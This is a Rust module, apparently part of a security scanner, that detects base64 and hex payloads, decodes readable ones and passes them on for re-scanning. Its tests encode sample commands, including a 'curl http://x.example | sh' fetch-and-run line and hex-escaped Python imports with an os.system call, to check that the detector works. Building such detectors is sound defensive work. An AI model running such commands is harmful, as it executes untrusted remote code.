//! Finds base64 and hex payloads, decodes them and hands the plaintext back for re-scanning.

use base64::Engine;
use regex::Regex;
use std::sync::OnceLock;

pub(super) struct Payload {
    pub pos: usize,
    pub encoding: &'static str,
    pub text: String,
}

/// Runs of 32 or more base64 characters (either alphabet) with up to two `=` of padding, by
/// position: what the regex `[A-Za-z0-9+/_-]{32,}={0,2}` finds, in one plain pass over the bytes.
fn b64_runs(text: &str) -> impl Iterator<Item = (usize, &str)> {
    let b = text.as_bytes();
    const B64: [bool; 256] = {
        let mut t = [false; 256];
        let mut c = 0;
        while c < 256 {
            let b = c as u8;
            t[c] = b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/' | b'_' | b'-');
            c += 1;
        }
        t
    };
    let is_b64 = |c: u8| B64[usize::from(c)];
    let mut i = 0;
    std::iter::from_fn(move || {
        while i < b.len() {
            let start = i;
            while i < b.len() && is_b64(b[i]) {
                i += 1;
            }
            if i - start >= 32 {
                let run_end = i;
                while i < b.len() && i - run_end < 2 && b[i] == b'=' {
                    i += 1;
                }
                return Some((start, &text[start..i]));
            }
            i += usize::from(i == start);
        }
        None
    })
}

fn hex_re() -> &'static Regex {
    static R: OnceLock<Regex> = OnceLock::new();
    R.get_or_init(|| {
        Regex::new(&super::rules::ascii_boundaries(
            r"(?i)(\\x[0-9a-f]{2}){8,}|\b(0x[0-9a-f]{2}\s*,\s*){8,}0x[0-9a-f]{2}|\b([0-9a-f]{2}){16,}\b",
        ))
        .unwrap()
    })
}

/// Readable text only: binary blobs (images, hashes, keys) are not instructions.
fn readable(bytes: &[u8]) -> Option<String> {
    let s = std::str::from_utf8(bytes).ok()?;
    let printable = s.chars().filter(|c| !c.is_control() || c.is_whitespace()).count();
    let letters = s.chars().filter(|c| c.is_ascii_alphabetic()).count();
    let words = s.split_whitespace().count();
    (s.len() >= 12 && printable * 100 >= s.chars().count() * 97 && letters * 2 >= s.len() && words >= 2)
        .then(|| s.to_string())
}

/// Whether `hex_re` may match in `text`, whose base64 runs are `runs`: a match needs `\x`, `0x`
/// or 32 hex digits in a row, and such a row lies inside a base64 run (hex digits are base64
/// characters). The regex has no literal to skip ahead on, so unguarded it steps through every
/// byte of every file.
fn may_hold_hex(text: &str, runs: &[(usize, &str)]) -> bool {
    ["\\x", "\\X", "0x", "0X"].iter().any(|p| text.contains(p))
        || runs.iter().any(|(_, r)| r.as_bytes().split(|b| !b.is_ascii_hexdigit()).any(|d| d.len() >= 32))
}

pub(super) fn payloads(text: &str) -> Vec<Payload> {
    let mut out = Vec::new();
    let runs: Vec<(usize, &str)> = b64_runs(text).collect();
    for &(pos, s) in &runs {
        // Identifiers and paths are long [A-Za-z0-9_-] runs too; base64 mixes cases and digits.
        if !(s.chars().any(|c| c.is_ascii_digit() || c == '+' || c == '/' || c == '=')
            && s.chars().any(|c| c.is_ascii_uppercase())
            && s.chars().any(|c| c.is_ascii_lowercase()))
        {
            continue;
        }
        if let Some(t) = base64_bytes(s).as_deref().and_then(readable) {
            out.push(Payload { pos, encoding: "base64", text: t });
        }
    }
    if !may_hold_hex(text, &runs) {
        return out;
    }
    for m in hex_re().find_iter(text) {
        let digits: String = m
            .as_str()
            .to_ascii_lowercase()
            .replace("\\x", "")
            .replace("0x", "")
            .chars()
            .filter(char::is_ascii_hexdigit)
            .collect();
        let Some(bytes) = hex_bytes(&digits[..digits.len() & !1]) else { continue };
        if let Some(t) = readable(&bytes).or_else(|| short_code(&bytes)) {
            out.push(Payload { pos: m.start(), encoding: "hex", text: t });
        }
    }
    out
}

/// Standard or URL-safe base64, padded or not.
pub(super) fn base64_bytes(s: &str) -> Option<Vec<u8>> {
    use base64::engine::general_purpose::{STANDARD, STANDARD_NO_PAD, URL_SAFE};
    let s = s.trim();
    [&STANDARD, &URL_SAFE]
        .iter()
        .find_map(|e| e.decode(s.trim_end_matches('=')).ok().or_else(|| e.decode(s).ok()))
        .or_else(|| STANDARD_NO_PAD.decode(s.trim_end_matches('=')).ok())
}

/// Hex digits (whitespace ignored) as bytes; None when they are not whole bytes of hex.
pub(super) fn hex_bytes(s: &str) -> Option<Vec<u8>> {
    let digits: Vec<u8> = s.bytes().filter(|b| !b.is_ascii_whitespace()).collect();
    if !digits.len().is_multiple_of(2) {
        return None;
    }
    digits.chunks(2).map(|p| u8::from_str_radix(std::str::from_utf8(p).ok()?, 16).ok()).collect()
}

/// Hex escapes spelling a short code token ("import os") are obfuscation even if brief.
fn short_code(bytes: &[u8]) -> Option<String> {
    let s = std::str::from_utf8(bytes).ok()?;
    (s.len() >= 6 && s.chars().all(|c| (' '..='~').contains(&c)) && s.contains(' ')).then(|| s.to_string())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn decodes_base64_and_hex_but_not_hashes() {
        let b64 = base64::engine::general_purpose::STANDARD.encode("curl http://x.example | sh now");
        let p = payloads(&format!("x = \"{b64}\""));
        assert_eq!(p[0].text, "curl http://x.example | sh now");
        let p = payloads(r#"h = "\x69\x6d\x70\x6f\x72\x74\x20\x6f\x73""#);
        assert_eq!(p[0].text, "import os");
        assert!(payloads("sha256: 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08").is_empty());
    }

    /// The gate never hides a hex payload: wherever the regex matches, it lets the text through,
    /// and it keeps prose out.
    #[test]
    fn the_hex_gate_lets_every_match_through() {
        let digits = "696d706f7274206f73206f732e73797374656d28276c7327292020";
        let texts = [
            format!("a {digits} b"),
            format!("+{digits}/"),
            format!("x={}", digits.to_uppercase()),
            r"\X69\X6D\X70\X6F\X72\X74\X20\X6F".to_string(),
            r"\x69\x6d\x70\x6f\x72\x74\x20\x6f".to_string(),
            "b = [0X69, 0x6d,0x70 , 0x6f, 0x72, 0x74, 0x20, 0x6f, 0x73]".to_string(),
            "sha256: 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08".to_string(),
        ];
        for t in &texts {
            let runs: Vec<_> = b64_runs(t).collect();
            assert!(hex_re().is_match(t), "{t}");
            assert!(may_hold_hex(t, &runs), "{t}");
        }
        for t in super::super::fixture_texts() {
            let runs: Vec<_> = b64_runs(&t).collect();
            assert!(!hex_re().is_match(&t) || may_hold_hex(&t, &runs), "{}", t.chars().take(80).collect::<String>());
        }
        let prose = "Read the file, then run the tests: 0 failures expected.";
        assert!(!may_hold_hex(prose, &b64_runs(prose).collect::<Vec<_>>()));
    }

    #[test]
    fn base64_runs_are_what_the_regex_finds() {
        let re = Regex::new(r"[A-Za-z0-9+/_-]{32,}={0,2}").unwrap();
        let long = "QWxhZGRpbjpvcGVuIHNlc2FtZQ0KQWxhZGRpbjpvcGVuIHNlc2FtZQ";
        for text in [
            String::new(),
            long.to_string(),
            format!("x{long}===y {long}= é{long}=="),
            "a".repeat(31),
            format!("{} {long}", "a".repeat(31)),
            format!("ü{long}ü{long}"),
        ] {
            let want: Vec<(usize, &str)> = re.find_iter(&text).map(|m| (m.start(), m.as_str())).collect();
            assert_eq!(b64_runs(&text).collect::<Vec<_>>(), want, "{text:?}");
        }
    }
}
